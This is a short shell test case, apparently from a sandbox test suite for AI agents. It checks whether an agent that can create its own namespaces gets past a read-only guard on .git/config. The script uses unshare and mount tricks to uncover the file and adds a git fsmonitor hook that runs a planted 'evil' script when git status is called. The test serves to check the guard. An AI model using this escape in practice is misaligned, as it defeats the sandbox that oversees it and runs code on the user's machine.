# Uncover what lies below a guard, as an agent that may make namespaces of its own
# group: git-files
# agent: nesting
# options: --set permissions=ask
# launch: refused for root
prepare() { git init -q "$W"; }
attempt() {
  printf '#!/bin/sh\ntouch "%s/ran"\n' "$ROOM" > evil; chmod +x evil
  mkdir -p /tmp/m
  unshare -Urm sh -c '
    umount .git/config; umount -l .git; mount -o remount,rw,bind .git/config
    mount --bind . /tmp/m; mount --move .git /tmp/m
    mount --rbind . /tmp/m && umount /tmp/m/.git/config
    for git in .git /tmp/m/.git; do printf "[core]\n\tfsmonitor = $PWD/evil\n" >> $git/config; done'
}
succeeded() { git -C "$W" status >/dev/null; test -e "$ROOM/ran"; }
